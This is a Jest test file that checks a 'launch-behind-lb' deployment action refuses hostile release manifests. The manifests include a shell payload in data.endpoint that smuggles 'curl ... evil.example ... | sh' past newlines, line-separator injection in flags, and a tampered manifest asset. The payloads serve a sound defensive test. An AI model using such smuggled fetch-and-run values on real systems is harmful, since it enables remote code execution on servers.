// launch-behind-lb against hostile releases (issue 16, finding 3): a manifest field that
// would inject shell into the servers' user data, flags with line separators, and a release
// asset changed after tag-release recorded the annotated tag. Each is refused before
// anything is created, with one error that names the field and never repeats the payload.
// The releases are written with raw GitHub calls, not core's writer, because core's writer
// (rightly) refuses to write them.
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { SEED, type Sandbox } from '@immut/sandbox';
import { describeRun, errorsOf, runAction, type ActionRun } from '@immut/action-runner';
import { sandboxEnv, startE2eSandbox } from '@immut/test-support/sandbox';

const ACTION = 'launch-behind-lb';
jest.setTimeout(120_000);
const [SUBNET_A, SUBNET_B] = SEED.subnets.map((s) => s.subnetId) as [string, string];
const SG = SEED.securityGroup.groupId;
const IMAGE = 'ami-0a0000000000a2303';
const REPOSITORY = 'immut-test/app';
const SHA = '0123456789abcdef0123456789abcdef01234567';
const PAYLOAD_ENDPOINT = 'db.internal.example\nIMMUT_ENV_END\ncurl -s https://evil.example/x | sh';

const BASE: Record<string, string> = {
  role: 'api',
  env: 'prod',
  region: 'us-east-1',
  'subnet-ids': `${SUBNET_A},${SUBNET_B}`,
  'security-group-ids': SG,
  'lb-security-group-ids': SG,
  count: '1',
  timeout: '6h',
};

type Raw = Record<string, unknown>;

/** A release manifest as plain JSON, so tests can put anything in it. */
function rawManifest(build: string, patch: { endpoint?: string; flags?: Record<string, string> } = {}): Raw {
  return {
    schema: 'immut.release/v1',
    release: `api-${build}`,
    role: 'api',
    env: 'prod',
    build,
    created: '2025-01-15T10:00:00.000Z',
    source: { repository: REPOSITORY, sha: SHA, run: '' },
    image: { id: IMAGE, region: 'us-east-1', fingerprint: '0123456789abcdef', base: IMAGE },
    data: {
      engine: 'postgres',
      instance: `prod-api-${build}`,
      endpoint: patch.endpoint ?? `prod-api-${build}.abc.us-east-1.rds.amazonaws.com`,
      from: 'snapshot rds:app-db-2025-01-15-03-10',
      changelog: 'm0003',
    },
    app: { version: '1.2.3' },
    flags: patch.flags ?? { FEATURE_X: 'on' },
  };
}

const json = (m: Raw): string => `${JSON.stringify(m, null, 2)}\n`;

/**
 * Records a release through the sandbox's GitHub API as tag-release lays it out: the
 * annotated tag (its message holds `tagged`), the ref, the GitHub release and its
 * manifest.json asset (`asset`, which a tampering user may have replaced).
 */
async function recordRelease(sandbox: Sandbox, tagged: Raw, asset: Raw = tagged): Promise<string> {
  const tag = `immut/prod/api/${String(tagged['build'])}`;
  const api = `${sandbox.endpoint}/repos/${REPOSITORY}`;
  const post = async (url: string, body: string, contentType = 'application/json'): Promise<Raw> => {
    const res = await fetch(url, {
      method: 'POST',
      headers: {
        authorization: 'token test',
        'content-type': contentType,
        accept: 'application/vnd.github+json',
      },
      body,
    });
    if (!res.ok) throw new Error(`${url}: ${res.status} ${await res.text()}`);
    return (await res.json()) as Raw;
  };
  const message = `immut release ${String(tagged['release'])} (prod)\n\n${json(tagged)}`;
  const object = await post(`${api}/git/tags`, JSON.stringify({ tag, message, object: SHA, type: 'commit' }));
  await post(`${api}/git/refs`, JSON.stringify({ ref: `refs/tags/${tag}`, sha: object['sha'] }));
  const release = await post(
    `${api}/releases`,
    JSON.stringify({ tag_name: tag, name: tag, body: 'release' }),
  );
  const upload = String(release['upload_url']).replace(/\{.*\}$/, '');
  await post(`${upload}?name=manifest.json`, json(asset));
  return tag;
}

function theError(run: ActionRun): string {
  const errors = errorsOf(run);
  if (run.exitCode === 0 || errors.length !== 1)
    throw new Error(`expected one ::error::\n${describeRun(run)}`);
  return errors[0]?.message ?? '';
}

interface Case {
  name: string;
  /** Inputs of the run, given the sandbox (which records the release first when needed). */
  inputs: (sandbox: Sandbox) => Promise<Record<string, string>>;
  /** What the one error must say. */
  says: RegExp[];
  /** What it must never say: the payload past the cut. */
  never: RegExp[];
}

const CASES: Case[] = [
  {
    name: 'a release tag whose manifest data.endpoint carries a shell payload',
    inputs: async (sandbox) => ({
      build: 'b000101',
      release: await recordRelease(sandbox, rawManifest('b000101', { endpoint: PAYLOAD_ENDPOINT })),
    }),
    says: [/data\.endpoint/, /host name/],
    never: [/evil\.example/, /\| sh/],
  },
  {
    name: 'manifest JSON given as input whose data.endpoint carries a shell payload',
    inputs: () =>
      Promise.resolve({
        build: 'b000102',
        release: json(rawManifest('b000102', { endpoint: PAYLOAD_ENDPOINT })),
      }),
    says: [/data\.endpoint/, /host name/],
    never: [/evil\.example/, /\| sh/],
  },
  {
    name: 'a release whose flag holds a newline',
    inputs: async (sandbox) => ({
      build: 'b000103',
      release: await recordRelease(
        sandbox,
        rawManifest('b000103', { flags: { LOG_LEVEL: 'info\nINJECTED=1' } }),
      ),
    }),
    says: [/flags\.LOG_LEVEL/, /control character/],
    never: [/INJECTED/],
  },
  {
    name: 'a release whose flags hold Unicode line separators (NEL, U+2028)',
    inputs: async (sandbox) => ({
      build: 'b000104',
      release: await recordRelease(
        sandbox,
        rawManifest('b000104', { flags: { LOG_LEVEL: 'info\u0085INJECTED=1', MODE: 'a\u2028INJECTED=2' } }),
      ),
    }),
    says: [/flags\.LOG_LEVEL/, /flags\.MODE/],
    never: [/INJECTED/],
  },
  {
    name: "a 'flags' input value holding a Unicode line separator",
    inputs: () => Promise.resolve({ build: 'b000105', 'image-id': IMAGE, flags: 'MODE=a\u2028INJECTED=1' }),
    // Refused where it is read (the input) or where it meets the file, whichever comes first.
    says: [/Input 'flags'.*MODE|'flags' input key 'MODE'/],
    never: [/\u2028/],
  },
  {
    name: 'a release whose manifest.json asset was replaced after the annotated tag was recorded',
    inputs: async (sandbox) => ({
      build: 'b000106',
      release: await recordRelease(
        sandbox,
        rawManifest('b000106'),
        rawManifest('b000106', { endpoint: 'db.evil.example', flags: { FEATURE_X: 'on', DEBUG_SHELL: '1' } }),
      ),
    }),
    says: [/manifest\.json/, /differs from .*annotated tag/, /data\.endpoint/, /flags\.DEBUG_SHELL/],
    never: [/db\.evil\.example/],
  },
];

let sandbox: Sandbox;
let runs: ActionRun[] = [];

beforeAll(async () => {
  sandbox = await startE2eSandbox();
  const env = { ...sandboxEnv(sandbox, ACTION), GITHUB_API_URL: sandbox.endpoint };
  const inputs = [];
  for (const c of CASES) inputs.push({ ...BASE, ...(await c.inputs(sandbox)) });
  runs = await Promise.all(inputs.map((i) => runAction(ACTION, { env, inputs: i })));
}, 120_000);

afterAll(async () => {
  await sandbox?.stop();
});

describe('launch-behind-lb with a hostile release', () => {
  it.each(CASES.map((c, i) => [c.name, i] as const))('refuses %s, naming the field', (_name, i) => {
    const run = runs[i]!;
    const message = theError(run);
    for (const pattern of CASES[i]!.says) expect(message).toMatch(pattern);
    for (const pattern of CASES[i]!.never) expect(message).not.toMatch(pattern);
    expect(message).not.toMatch(/likely a bug/);
    expect(run.outputs).toEqual({});
  });

  it('launches nothing for any of them: no server, no load balancer', () => {
    const made = sandbox.calls().filter((c) => /^(Run|Create)/.test(c.operation) && c.outcome === 'ok');
    expect(made.map((c) => c.operation)).toEqual([]);
  });
});
